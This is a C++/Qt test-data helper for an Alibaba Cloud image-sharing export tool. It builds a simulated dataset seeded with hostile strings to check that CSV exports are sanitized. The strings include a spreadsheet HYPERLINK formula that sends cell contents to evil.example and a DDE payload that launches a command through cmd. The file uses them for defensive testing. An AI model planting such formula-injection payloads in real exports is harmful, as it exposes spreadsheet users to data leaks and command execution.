#include "ExportTestData.h"

#include "ServiceText.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QProcessEnvironment>
#include <QSignalSpy>

#include <algorithm>

namespace ExportTestData {

QStringList hostileTexts() {
    return {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
        QStringLiteral("+SUM(1,2)"),
        QStringLiteral("-2+3"),
        QStringLiteral("@cmd"),
        QStringLiteral("\tTabbed"),
        QStringLiteral("\rCarriage return"),
        QStringLiteral("Line one\nLine two"),
        QStringLiteral("Windows\r\nbreak"),
        QStringLiteral("\"Quoted\" name"),
        QStringLiteral("a,b,c"),
        QStringLiteral("生产-网关-基线"),
        QStringLiteral("测试,\"引号\"\n换行"),
        QStringLiteral("'already quoted"),
        QStringLiteral("emoji 😀 image"),
        QStringLiteral("trailing space "),
        QStringLiteral("=cmd|' /C calc'!A0"),
    };
}

namespace {

QJsonObject account(const QString &id, const QString &time) {
    QJsonObject object{{QStringLiteral("AliyunId"), id}};
    if (!time.isEmpty())
        object.insert(QStringLiteral("SharedTime"), time);
    return object;
}

QJsonObject image(const QString &regionId, const QString &imageId, const QString &name, const QString &status,
                  const QJsonArray &accounts, const QStringList &groups) {
    return {
        {QStringLiteral("RegionId"), regionId},
        {QStringLiteral("ImageId"), imageId},
        {QStringLiteral("ImageName"), name},
        {QStringLiteral("Status"), status},
        {QStringLiteral("OSName"), QStringLiteral("Alibaba Cloud Linux 3")},
        {QStringLiteral("CreationTime"), QStringLiteral("2024-01-31T08:00:00Z")},
        {QStringLiteral("Size"), 40},
        {QStringLiteral("Accounts"), accounts},
        {QStringLiteral("ShareGroups"), QJsonArray::fromStringList(groups)},
    };
}

} // namespace

QByteArray hostileDatasetJson(int accountsOnBigImage, int extraImages) {
    const QStringList texts = hostileTexts();
    const QStringList statuses = isb::SimulatorDataset::imageStatuses();
    QJsonArray images;
    for (qsizetype i = 0; i < texts.size(); ++i) {
        // Each image is shared with a few hostile account ids (a real AliyunId is digits, but the export
        // must not trust that) and a hostile group, and has its own status.
        QJsonArray accounts;
        accounts.append(account(QStringLiteral("1%1").arg(i, 11, 10, QLatin1Char('0')),
                                QStringLiteral("2024-02-01T09:00:00Z")));
        accounts.append(account(texts.at((i + 1) % texts.size()), QString()));
        accounts.append(account(texts.at((i + 5) % texts.size()), QStringLiteral("2024-12-31T23:59:59Z")));
        QStringList groups;
        if (i % 3 == 0)
            groups << texts.at((i + 2) % texts.size());
        if (i % 4 == 0)
            groups << QStringLiteral("all");
        images.append(image(kHostileRegion, QStringLiteral("m-hostile%1").arg(i, 2, 10, QLatin1Char('0')),
                            texts.at(i), statuses.at(i % statuses.size()), accounts, groups));
    }
    QJsonArray many;
    for (int a = 0; a < accountsOnBigImage; ++a)
        many.append(account(QStringLiteral("2%1").arg(a, 11, 10, QLatin1Char('0')),
                            a % 7 == 0 ? QString() : QStringLiteral("2024-03-01T08:00:00Z")));
    images.append(image(kHostileRegion, QStringLiteral("m-hostilebig"), QStringLiteral("=big image"),
                        QStringLiteral("Available"), many, {QStringLiteral("all")}));
    for (int e = 0; e < extraImages; ++e) {
        QJsonArray accounts;
        for (int a = 0; a < 10; ++a)
            accounts.append(account(
                QStringLiteral("3%1%2").arg(e, 6, 10, QLatin1Char('0')).arg(a, 5, 10, QLatin1Char('0')),
                QStringLiteral("2024-04-01T08:00:00Z")));
        images.append(image(kHostileRegion, QStringLiteral("m-extra%1").arg(e, 5, 10, QLatin1Char('0')),
                            QStringLiteral("extra image %1, \"padding\"").arg(e), QStringLiteral("Available"),
                            accounts, {}));
    }
    // An image of another region must never leak into this region's export.
    images.append(image(QStringLiteral("cn-shanghai"), QStringLiteral("m-elsewhere"),
                        QStringLiteral("elsewhere"), QStringLiteral("Available"),
                        QJsonArray{account(QStringLiteral("999999999999"), {})}, {}));

    auto region = [](const QString &id) {
        return QJsonObject{{QStringLiteral("RegionId"), id},
                           {QStringLiteral("LocalName"), id},
                           {QStringLiteral("RegionEndpoint"), QStringLiteral("ecs.%1.aliyuncs.com").arg(id)}};
    };
    const QJsonObject top{
        {QStringLiteral("AccessKeys"),
         QJsonArray{
             QJsonObject{{QStringLiteral("AccessKeyId"), QStringLiteral("LTAI5tDemoReadOnly0001")},
                         {QStringLiteral("AccessKeySecret"), QStringLiteral("demo-secret-not-a-real-key")}}}},
        {QStringLiteral("Regions"),
         QJsonArray{region(kHostileRegion), region(QStringLiteral("cn-shanghai")), region(kQuietRegion)}},
        {QStringLiteral("Images"), images},
    };
    return QJsonDocument(top).toJson();
}

isb::SimulatorDataset hostileDataset(int accountsOnBigImage, int extraImages) {
    QString error;
    const auto dataset =
        isb::SimulatorDataset::fromJson(hostileDatasetJson(accountsOnBigImage, extraImages), &error);
    if (!dataset)
        qFatal("hostile dataset rejected: %s", qPrintable(error));
    return *dataset;
}

QList<QStringList> expectedRows(const isb::SimImage &image, int firstAccount, int accountCount) {
    QList<QStringList> rows;
    const int end = accountCount < 0 ? int(image.accounts.size())
                                     : qMin(int(image.accounts.size()), firstAccount + accountCount);
    for (int a = firstAccount; a < end; ++a) {
        const isb::SimSharedAccount &account = image.accounts.at(a);
        // What the client hands out: the service's text sanitized (issue 12).
        rows.append({image.regionId, image.imageId, isb::sanitizedServiceText(image.imageName),
                     QStringLiteral("Account"), isb::sanitizedServiceText(account.aliyunId),
                     account.sharedTime});
    }
    for (const QString &group : image.shareGroups)
        rows.append({image.regionId, image.imageId, isb::sanitizedServiceText(image.imageName),
                     QStringLiteral("Group"), isb::sanitizedServiceText(group), QString()});
    return rows;
}

QList<const isb::SimImage *> imagesOf(const isb::SimulatorDataset &dataset, const QString &regionId) {
    QList<const isb::SimImage *> images;
    for (const isb::SimImage &image : dataset.images()) {
        if (image.regionId == regionId)
            images.append(&image);
    }
    return images;
}

QList<const isb::SimImage *> imagesInExportOrder(const isb::SimulatorDataset &dataset,
                                                 const QString &regionId) {
    QList<const isb::SimImage *> images = imagesOf(dataset, regionId);
    std::stable_sort(images.begin(), images.end(),
                     [](const isb::SimImage *a, const isb::SimImage *b) { return a->imageId < b->imageId; });
    return images;
}

const isb::SimImage *biggestImage(const isb::SimulatorDataset &dataset, const QString &regionId) {
    const isb::SimImage *biggest = nullptr;
    for (const isb::SimImage *image : imagesOf(dataset, regionId)) {
        if (!biggest || image->accounts.size() > biggest->accounts.size())
            biggest = image;
    }
    return biggest;
}

QString guarded(const QString &cell) {
    if (!cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.front()))
        return QLatin1Char('\'') + cell;
    return cell;
}

QList<QStringList> guarded(const QList<QStringList> &rows) {
    QList<QStringList> out;
    for (const QStringList &row : rows) {
        QStringList cells;
        for (const QString &cell : row)
            cells.append(guarded(cell));
        out.append(cells);
    }
    return out;
}

QStringList header() {
    return {QStringLiteral("RegionId"), QStringLiteral("ImageId"),   QStringLiteral("ImageName"),
            QStringLiteral("Kind"),     QStringLiteral("Principal"), QStringLiteral("SharedTime"),
            QStringLiteral("Label")};
}

isb::ClientOptions clientOptions(const isb::EcsSimulator &simulator, int maxRetries) {
    isb::ClientOptions options;
    options.endpointOverride = simulator.url();
    options.timeout = std::chrono::milliseconds(5000);
    options.maxRetries = maxRetries;
    options.retryBaseDelay = std::chrono::milliseconds(5);
    options.retryMaxDelay = std::chrono::milliseconds(20);
    return options;
}

isb::Credentials demoCredentials() {
    isb::Credentials credentials;
    credentials.accessKeyId = QStringLiteral("LTAI5tDemoReadOnly0001");
    credentials.accessKeySecret = QStringLiteral("demo-secret-not-a-real-key");
    return credentials;
}

bool runToEnd(isb::ExportJob *job) {
    QSignalSpy finished(job, &isb::ExportJob::finished);
    if (job->status() == isb::ExportJob::Status::Ready)
        job->start();
    return finished.count() > 0 || finished.wait(30000);
}

CliRun runCli(const QUrl &endpoint, const QStringList &arguments, const QStringList &wrapper) {
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    for (const QString &name : env.keys()) {
        if (name.startsWith(QLatin1String("ALIBABA_CLOUD_")))
            env.remove(name); // the developer's own credentials must not leak into the test
    }
    env.insert(QStringLiteral("ALIBABA_CLOUD_ACCESS_KEY_ID"), demoCredentials().accessKeyId);
    env.insert(QStringLiteral("ALIBABA_CLOUD_ACCESS_KEY_SECRET"), demoCredentials().accessKeySecret);
    env.remove(QStringLiteral("QT_LOGGING_RULES"));

    QStringList args = wrapper;
    args << QStringLiteral(ISB_BIN_DIR "/image-share-cli") << QStringLiteral("--endpoint")
         << endpoint.toString() << arguments;
    QProcess process;
    process.setProcessEnvironment(env);
    process.start(args.takeFirst(), args);
    CliRun run;
    QSignalSpy finished(&process, &QProcess::finished);
    if (!process.waitForStarted(10000) || !finished.wait(60000)) {
        process.kill();
        process.waitForFinished();
        run.err = "image-share-cli did not finish";
        return run;
    }
    run.exitCode = process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
    run.out = process.readAllStandardOutput();
    run.err = process.readAllStandardError();
    return run;
}

QStringList filesIn(const QString &folder) {
    QStringList names =
        QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot);
    names.sort();
    return names;
}

QByteArray readAll(const QString &path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

} // namespace ExportTestData
